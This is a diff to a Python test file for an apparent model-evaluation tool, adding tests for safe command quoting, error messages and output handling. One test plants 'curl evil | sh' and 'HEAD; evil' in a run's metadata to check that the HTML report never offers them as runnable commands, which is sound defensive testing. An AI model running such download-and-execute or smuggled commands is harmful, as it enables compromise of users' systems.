@@ -3,6 +3,8 @@ import inspect
 import json
 import math
 import os
+import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -13,15 +15,16 @@ import pandas as pd
 import pytest
 import torch
 import yaml
+from hydra.core.override_parser.overrides_parser import OverridesParser
 
-from data.hash import data_hash
+import flows
 from flows.config import build
 from flows.errors import UserError
 from flows.evaluation import runs
 from flows.evaluation.meaning import rows
 from flows.evaluation.runs import find, open_run
 from flows.evaluation.tasks import perform
-from flows.evaluation.tasks.report import report
+from flows.evaluation.tasks.report import _steps, report
 from flows.evaluation.tasks.sample import sample
 from flows.evaluation.tasks.score import score
 from flows.training.saved import Saved
@@ -68,9 +71,7 @@ def edit(path, change):
 
 
 def do(task, **options):
-    perform(
-        {"task": task, **{key: str(v) if isinstance(v, Path) else v for key, v in options.items()}}, data_hash
-    )
+    perform({"task": task, **{key: str(v) if isinstance(v, Path) else v for key, v in options.items()}})
 
 
 def table(path, text):
@@ -143,6 +144,37 @@ def test_runs_of_one_name_are_told_apart(trained, tmp_path):
     assert (tmp_path / "both/density.png").exists()
 
 
+@pytest.mark.parametrize("name", ["b,1", "my run", "a=1", 'the "best"', "back\\"])
+def test_the_reports_commands_open_the_run_whatever_its_folder_is_called(trained, tmp_path, name):
+    run = shutil.copytree(trained, tmp_path / name)
+    commands = [step.command for step in _steps(run, {}, "last", 3) if "evaluate.py" in step.command]
+    assert len(commands) == 2
+    for command in commands:
+        given = OverridesParser.create().parse_overrides(shlex.split(command)[2:])
+        assert {each.key_or_group: each.value() for each in given}["run"] == str(run)
+    (board,) = (step.command for step in _steps(run, {}, "best", 0) if "tensorboard" in step.command)
+    assert shlex.split(board)[-1] == str(run / "tensorboard")
+
+
+def test_the_report_gives_no_command_that_a_runs_file_made_up(run):
+    edit(run / "run.json", lambda facts: facts.update(command="curl evil | sh", commit="HEAD; evil"))
+    do("report", run=run)
+    html = (run / "evaluation/report.html").read_text()
+    assert "<dt>command, as the run recorded it</dt><dd>curl evil | sh</dd>" in html
+    assert not any("evil" in shown for shown in re.findall(r"<pre>.*?</pre>", html, re.DOTALL))
+    (code, *_) = _steps(run, {"commit": "0123abcdef+changes"}, "best", 0)
+    assert code.command == "git checkout 0123abcdef"
+
+
+def test_a_run_without_metrics_has_no_curves(run):
+    (run / "metrics.csv").unlink()
+    do("report", run=run)
+    assert not (run / "evaluation/loss.png").exists()
+    (run / "metrics.csv").write_text("step,nll\n1,one\n")
+    with pytest.raises(UserError, match=r"metrics\.csv: can't be read \(could not convert"):
+        do("report", run=run)
+
+
 # Which run
 
 
@@ -201,8 +233,40 @@ def test_a_run_without_a_part_is_refused(run, part):
         do("report", run=run)
 
 
+@pytest.mark.parametrize(
+    ("file", "change", "message"),
+    [
+        ("run.json", {"step": "x"}, r"run\.json: step='x': expected int"),
+        ("run.json", {"spec": {"shape": 2}}, r"run\.json: spec=\{shape: 2\}: expected Spec"),
+        ("run.json", {"spec": [["x"], 2]}, r"run\.json: spec="),
+        ("run.json", {"commit": 5}, r"run\.json: commit=5"),
+        ("config.yaml", {"model": 3}, r"config\.yaml: model=3: expected a mapping"),
+    ],
+)
+def test_a_run_whose_files_say_nonsense_is_refused_in_one_line(run, file, change, message):
+    edit(run / file, lambda content: content.update(change))
+    with pytest.raises(UserError, match=message) as caught:
+        flows.load(run)
+    assert "\n" not in str(caught.value)
+
+
+@pytest.mark.parametrize("text", ["", "[]", "a: [", "5"])
+@pytest.mark.parametrize("file", ["run.json", "config.yaml"])
+def test_a_run_whose_files_hold_nothing_is_refused_in_one_line(run, file, text):
+    (run / file).write_text(text)
+    with pytest.raises(UserError, match=f"{run}") as caught:
+        flows.load(run)
+    assert "\n" not in str(caught.value)
+
+
+def test_a_run_without_its_spec_is_refused(run):
+    edit(run / "run.json", lambda facts: facts.pop("spec"))
+    with pytest.raises(UserError, match="nothing of the spec"):
+        flows.load(run)
+
+
 def test_data_that_has_changed_is_noticed(run, tmp_path, capsys):
-    assert open_run(run, "best", (), data_hash).warnings == []
+    assert open_run(run, "best", ()).warnings == []
     edit(run / "config.yaml", lambda config: config["dataset"].update(noise=0.06))
     do("sample", run=run, n=3, output=tmp_path / "x.csv")
     assert "the data has changed" in capsys.readouterr().err
@@ -212,7 +276,7 @@ def test_data_that_has_changed_is_noticed(run, tmp_path, capsys):
 
 def test_an_unfinished_run_is_reported_as_one(run):
     edit(run / "run.json", lambda facts: facts.update(status="diverged"))
-    assert "unfinished" in open_run(run, "best", (), data_hash).warnings[0]
+    assert "unfinished" in open_run(run, "best", ()).warnings[0]
 
 
 # Sample
@@ -278,6 +342,33 @@ def test_samples_that_cannot_be_are_refused(trained, tmp_path, monkeypatch, opti
 def test_a_context_of_the_wrong_length_names_the_right_one(labelled, tmp_path):
     with pytest.raises(UserError, match=r"moon_0, moon_1"):
         do("sample", run=labelled, output=tmp_path / "x.csv", context=[1.0])
+
+
+@pytest.mark.parametrize("folder", ["/proc/none", "file", "a" * 300])
+def test_an_output_that_cannot_be_written_is_refused_before_the_work(trained, tmp_path, monkeypatch, folder):
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "file").touch()
+    given = table(tmp_path / "in.csv", "x,y\n1,2\n")
+    for module in ("report.measure", "sample.samples", "score.log_prob"):
+        monkeypatch.setattr(f"flows.evaluation.tasks.{module}", None)
+    message = f"{folder}: can't be written"
+    for task, options in (
+        ("report", {"output": folder}),
+        ("report", {"output": folder, "runs": [str(trained)]}),
+        ("sample", {"output": f"{folder}/x.csv"}),
+        ("score", {"output": f"{folder}/x.csv", "input": given}),
+    ):
+        options = options if "runs" in options else {"run": trained, **options}
+        with pytest.raises(UserError, match=message):
+            do(task, **options)
+
+
+def test_an_output_that_fails_at_the_end_is_one_line(trained, tmp_path):
+    (tmp_path / "metrics.json").mkdir()
+    with pytest.raises(UserError, match=r"metrics\.json: can't be written"):
+        do("report", run=trained, output=tmp_path)
+    with pytest.raises(UserError, match="can't be written"):
+        do("sample", run=trained, n=2, output=tmp_path / ("a" * 300 + ".csv"))
 
 
 # Score
@@ -379,7 +470,7 @@ def test_yaml_lists_every_argument_and_its_default(task):
     assert own.pop("task") == task.__name__
     common.pop("defaults")
     given = {**common, **own}
-    defaults = {name: p.default for name, p in inspect.signature(task).parameters.items() if name != "digest"}
+    defaults = {name: p.default for name, p in inspect.signature(task).parameters.items()}
     assert given.keys() == defaults.keys()
     for name, default in defaults.items():
         missing = default is inspect.Parameter.empty
